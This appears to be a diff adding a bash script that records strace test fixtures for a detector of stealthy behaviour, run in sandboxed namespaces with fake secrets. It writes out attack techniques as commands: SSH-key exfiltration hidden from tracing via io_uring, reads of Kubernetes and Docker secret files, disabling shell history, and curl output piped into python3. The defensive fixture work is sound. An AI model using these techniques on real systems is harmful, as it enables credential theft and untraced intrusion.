@@ -1,0 +1,64 @@
+#!/bin/bash
+# Captures testdata/formats/strace/f_tt_T_y_io_uring_exfil.txt, f_tt_T_y_container_secrets.txt,
+# f_tt_T_y_v_history_off.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
+# from a syscall trace or leaves no file behind, each run as uid 1001 in fresh pid, mount and
+# net namespaces (only `lo`; every connection goes to 127.0.0.1), a tmpfs home with FAKE
+# secrets (random text) and a tmpfs /run holding a fake Kubernetes service-account token and
+# a fake Docker secret.
+#   io_uring_exfil: apps/io_uring_probe --send: ~/.ssh/id_rsa opened and read, a TCP socket
+#     made, connected to an untraced listener on 127.0.0.1:18555 and the key sent, all
+#     through io_uring (IORING_OP_OPENAT/READ/SOCKET/CONNECT/SEND): no openat, socket or
+#     connect of the program is in the trace.
+#   container_secrets: cat of /var/run/secrets/kubernetes.io/serviceaccount/token and
+#     /run/secrets/db_password (a pod's API token, a swarm/compose secret).
+#   history_off: sh runs bash -c 'unset HISTFILE; history -c; id -u' and a bash started
+#     by env with HISTFILE=/dev/null HISTSIZE=0 in its environment (-v shows it).
+#   pipe_to_interpreter: sh -c 'curl -fsS URL | python3 -' and
+#     sh -c 'python3 -c "$(curl -fsS URL)"' against an untraced python http.server on
+#     127.0.0.1:18556 serving a one-line stage.
+# Needs gcc, strace, curl, python3. Run as root: testdata/formats/capture_stealth_probes.sh
+set -euo pipefail
+HERE=$(cd "$(dirname "$0")" && pwd)
+if [[ "${1:-}" != "--inside" ]]; then
+  exec unshare --pid --fork --mount-proc --mount --net "$0" --inside
+fi
+ip link set lo up
+mount --make-rprivate /
+mount -t tmpfs -o mode=1777 tmpfs /tmp
+mount -t tmpfs -o mode=755 tmpfs /run
+H=/tmp/home && mkdir -p $H/.ssh $H/www && chmod 755 $H
+{ echo "-----BEGIN OPENSSH PRIVATE KEY-----"; head -c 300 /dev/urandom | base64 -w 70
+  echo "-----END OPENSSH PRIVATE KEY-----"; } > $H/.ssh/id_rsa
+mkdir -p /run/secrets/kubernetes.io/serviceaccount
+echo "eyJhbGciOiJSUzI1NiJ9.FAKE.$(head -c 24 /dev/urandom | base64 | tr -d '/+=')" \
+  > /run/secrets/kubernetes.io/serviceaccount/token
+head -c 18 /dev/urandom | base64 > /run/secrets/db_password
+chmod 644 /run/secrets/kubernetes.io/serviceaccount/token /run/secrets/db_password
+echo 'print("stage 2 ran")' > $H/www/stage.py
+chown -R 1001:1001 $H
+gcc -O2 -o /tmp/io_uring_probe "$HERE/../harness/apps/io_uring_probe/io_uring_probe.c"
+S="$HERE/strace"
+wait_port() { for _ in $(seq 100); do ss -Hltn "sport = :$1" | grep -q . && return 0; sleep 0.1; done; return 1; }
+run() {  # run OUTFILE STRACE_FLAGS... -- CMD...
+  local out=$1 flags=(); shift
+  while [[ "$1" != -- ]]; do flags+=("$1"); shift; done; shift
+  (cd $H && env -i PATH=/usr/bin:/bin HOME=$H LANG=C.UTF-8 \
+     strace "${flags[@]}" -o "$S/$out" setpriv --reuid=1001 --regid=1001 --clear-groups "$@" \
+     < /dev/null > /tmp/out.txt 2>&1) || true
+  cat /tmp/out.txt
+}
+python3 -c 'import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", 18555)); s.listen(1); c, _ = s.accept(); c.recv(4096); c.close()' &
+wait_port 18555
+run f_tt_T_y_io_uring_exfil.txt -f -tt -T -y -- /tmp/io_uring_probe --send 18555 $H/.ssh/id_rsa
+wait
+run f_tt_T_y_container_secrets.txt -f -tt -T -y -- /bin/sh -c \
+  'cat /var/run/secrets/kubernetes.io/serviceaccount/token /run/secrets/db_password > /dev/null'
+run f_tt_T_y_v_history_off.txt -f -tt -T -y -v -s 128 -e trace=process,file -- /bin/sh -c \
+  '/bin/bash -c "unset HISTFILE; history -c; id -u"; env HISTFILE=/dev/null HISTSIZE=0 /bin/bash -c "id -u"'
+python3 -m http.server --bind 127.0.0.1 --directory $H/www 18556 > /dev/null 2>&1 &
+HTTP=$!
+wait_port 18556
+run f_tt_T_y_s200_pipe_to_interpreter.txt -f -tt -T -y -s 200 -e trace=process,network,file -- /bin/sh -c \
+  'curl -fsS http://127.0.0.1:18556/stage.py | python3 -; python3 -c "$(curl -fsS http://127.0.0.1:18556/stage.py)"'
+kill $HTTP
